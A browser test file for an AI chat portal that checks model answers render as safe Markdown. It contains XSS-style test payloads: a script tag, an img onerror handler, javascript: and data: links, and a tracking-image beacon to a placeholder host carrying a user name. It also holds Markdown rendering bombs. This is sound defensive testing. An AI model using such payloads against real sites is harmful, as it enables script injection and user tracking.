"""Model answers in real Chromium: Markdown worth reading, hostile answers shown as text, nothing fetched outside.

A hostile answer comes from the fake gateway ("Reply verbatim: ..."); answers the fake cannot produce (several
lines, a megabyte) are written into the portal's database as an earlier conversation and opened from the sidebar.
"""

from __future__ import annotations

import sqlite3
import time
from datetime import datetime, timezone
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from portal.core.safe_markdown import WORD_JOINER
from tests.browser.test_catalog_journey import field, sign_in
from tests.browser.conftest import LOCAL_MODEL
from tests.browser.test_sandbox_journey import answers
from tests.browser.test_sign_in_journeys import expect_no_error_box, settled

# What showing an answer may add to opening a conversation: the click-to-settled time of a short answer is the
# page's own rerun on this machine (0.2-0.4 s when quiet, several seconds with eight test runs on two cores), so a
# bomb is held to that plus the budget rather than to an absolute figure the machine's load would decide.
RENDER_BUDGET_S = 2.0
HOSTILE = ("<script>window.pwned = 1</script> <img src=x onerror=\"window.pwned = 2\"> "
           "[click me](javascript:window.pwned=3) [data](data:text/html,<script>window.pwned=4</script>) "
           "![beacon](http://beacon.example/pixel.png?user=vera) see https://docs.example.com/guide "
           ":red[spoof] :material/warning: $\\frac{1}{2}$")
NORMAL = """# Fixing the loop

Use a **comprehension** instead of the *loop*:

```python
squares = [n * n for n in range(10)]
print(squares)
```

- short
- readable
  1. nested
  2. list

| approach | lines |
|:---------|------:|
| loop | 3 |
| comprehension | 1 |

More at [the docs](https://docs.python.org/3/tutorial/datastructures.html).
"""
EMPHASIS_BOMB = "*_" * 250_000 + "a" + "_*" * 250_000  # 1 MB of emphasis delimiters
NESTED = ">" * 10_000 + " deep\n\n" + "".join(f"{'  ' * min(i, 40)}- level {i}\n" for i in range(2_000))


def outside_requests(page: Page) -> list[str]:
    """Every request the page makes for a host other than 127.0.0.1 (an image beacon, a font, a script)."""
    seen: list[str] = []
    page.on("request", lambda request: None if urlsplit(request.url).hostname in ("127.0.0.1", None)
            else seen.append(request.url))
    return seen


def seed_conversation(database, email: str, title: str, question: str, answer: str) -> None:
    """An earlier conversation with one question and its answer, written straight into the portal's database."""
    now = datetime.now(timezone.utc).replace(tzinfo=None).isoformat(sep=" ")
    with sqlite3.connect(database) as db:
        (owner,) = db.execute("SELECT id FROM portal_user WHERE email = ?", (email,)).fetchone()
        cursor = db.execute(
            "INSERT INTO sandbox_conversation (owner_id, title, model_name, classification, system_prompt, "
            "temperature, top_p, max_tokens, created_at, updated_at) VALUES (?, ?, ?, 1, '', 0.7, 1.0, 512, ?, ?)",
            (owner, title, LOCAL_MODEL, now, now))
        for role, content in (("user", question), ("assistant", answer)):
            db.execute(
                "INSERT INTO sandbox_message (conversation_id, role, content, created_at, model_name, tokens_in, "
                "tokens_out, cost_usd, incomplete, redactions) VALUES (?, ?, ?, ?, ?, 1, 1, 0.0, 0, 0)",
                (cursor.lastrowid, role, content, now, LOCAL_MODEL))


def open_seeded(page: Page, title: str) -> float:
    """Open a conversation from the sidebar; the seconds from the click until the page has settled."""
    settled(page)
    started = time.monotonic()
    page.get_by_test_id("stSidebar").get_by_role("button", name=title, exact=True).click()
    expect(page.get_by_test_id("stMain").get_by_text(f"Question: {title}")).to_be_visible()
    settled(page)
    return time.monotonic() - started


def expect_nothing_live(page: Page) -> None:
    """No script ran, no image or frame in an answer, every link in one goes to http(s) and is marked."""
    assert page.evaluate("() => window.pwned") is None
    chat = page.get_by_test_id("stChatMessage")
    expect(chat.locator("img, iframe, script, svg image, video, audio")).to_have_count(0)
    for link in chat.locator("a[href]").all():
        href = link.get_attribute("href") or ""
        if link.evaluate("a => !!a.closest('[data-testid=stHeaderActionElements]')"):
            continue  # Streamlit's own "link to this heading" anchor beside a heading
        assert href.startswith(("https://", "http://", "mailto:")), href
        assert "↗" in link.evaluate("a => a.parentElement.textContent"), href


@pytest.mark.browser
def test_answers_are_markdown_hostile_ones_text_and_nothing_leaves_the_machine(
        page: Page, start_portal, screenshot, serving_the_local_model):
    outside = outside_requests(page)
    # Embeddings from the fake gateway: the local model takes a minute to load on a busy machine.
    portal = start_portal(auth_mode="dev", embedding_source="gateway", embedding_model="fake-small")
    sign_in(page, portal.url, "Vera Viewer")
    email = next(e for e, u in portal.users().items() if u["name"] == "Vera Viewer")
    seed_conversation(portal.database, email, "Normal", "Question: Normal", NORMAL)
    seed_conversation(portal.database, email, "Emphasis bomb", "Question: Emphasis bomb", EMPHASIS_BOMB)
    seed_conversation(portal.database, email, "Deep nesting", "Question: Deep nesting", NESTED)
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Sandbox").click()
    expect(page.get_by_role("heading", name="Sandbox", exact=True)).to_be_visible()
    settled(page)

    # A hostile answer, streamed from the gateway: its HTML, links, image, directive, icon and LaTeX are text.
    field(page, "Your message").fill(f"Reply verbatim: {HOSTILE}")
    started = time.monotonic()
    page.get_by_role("button", name="Send").click()
    answer = answers(page).nth(1)
    expect(answer).to_contain_text("<script>window.pwned = 1</script>")
    settled(page)
    took = time.monotonic() - started
    shown = answer.inner_text().replace(WORD_JOINER, "")  # word joiners keep bare URLs and icons from Streamlit
    for text in ('<img src=x onerror="window.pwned = 2">', "[click me](javascript:window.pwned=3)",
                 "beacon (image: http://beacon.example/pixel.png?user=vera)", ":red[spoof]",
                 ":material/warning:", "$\\frac{1}{2}$"):
        assert text in shown, text
    expect(answer.locator("a")).to_have_count(1)  # the bare URL, marked
    expect(answer.locator("a")).to_have_attribute("href", "https://docs.example.com/guide")
    expect(answer).to_contain_text("↗ docs.example.com")
    # No LaTeX drawn, no icon in the answer's text (the avatar beside it is an icon of its own).
    expect(answer.get_by_test_id("stMarkdownContainer").locator(".katex, [data-testid=stIconMaterial], "
                                                                 "[role=img]")).to_have_count(0)
    expect_nothing_live(page)
    expect_no_error_box(page)
    screenshot("safe-answers-1-hostile-answer-as-text")
    print(f"hostile answer: send to settled {took:.2f} s (a whole turn, streamed word by word)")

    # A normal answer: a real heading, code block, lists, table and a marked link.
    took = open_seeded(page, "Normal")
    normal = answers(page).nth(1)
    expect(normal.locator("h3")).to_have_text("Fixing the loop")
    expect(normal.locator("pre code")).to_contain_text("squares = [n * n for n in range(10)]")
    expect(normal.locator("ul > li")).to_have_count(2)
    expect(normal.locator("ol > li")).to_have_count(2)
    expect(normal.locator("table tr")).to_have_count(3)
    expect(normal.locator("strong")).to_have_text("comprehension")
    expect(normal.get_by_role("link", name="the docs")).to_have_attribute(
        "href", "https://docs.python.org/3/tutorial/datastructures.html")
    expect(normal).to_contain_text("↗ docs.python.org")
    expect_nothing_live(page)
    screenshot("safe-answers-2-normal-answer-as-markdown")
    baseline = took
    print(f"normal answer: click to settled {took:.2f} s")

    # A megabyte of emphasis delimiters and ten thousand nested quotes: text, on screen within the budget.
    took = open_seeded(page, "Emphasis bomb")
    expect(answers(page).nth(1)).to_contain_text("*_*_*_*_")
    screenshot("safe-answers-3-emphasis-bomb-as-text")
    print(f"1 MB emphasis bomb: click to settled {took:.2f} s")
    assert took < baseline + RENDER_BUDGET_S, f"the 1 MB emphasis bomb took {took:.2f} s (a short answer {baseline:.2f} s)"
    took = open_seeded(page, "Deep nesting")
    expect(answers(page).nth(1)).to_contain_text(">>>>>>>>>> deep")
    expect(answers(page).nth(1).locator("blockquote")).to_have_count(0)
    screenshot("safe-answers-4-deep-nesting-as-text")
    print(f"10,000 nested quotes: click to settled {took:.2f} s")
    assert took < baseline + RENDER_BUDGET_S, f"10,000 nested quotes took {took:.2f} s (a short answer {baseline:.2f} s)"
    expect_nothing_live(page)
    expect_no_error_box(page)
    assert outside == [], f"requests left 127.0.0.1: {outside}"
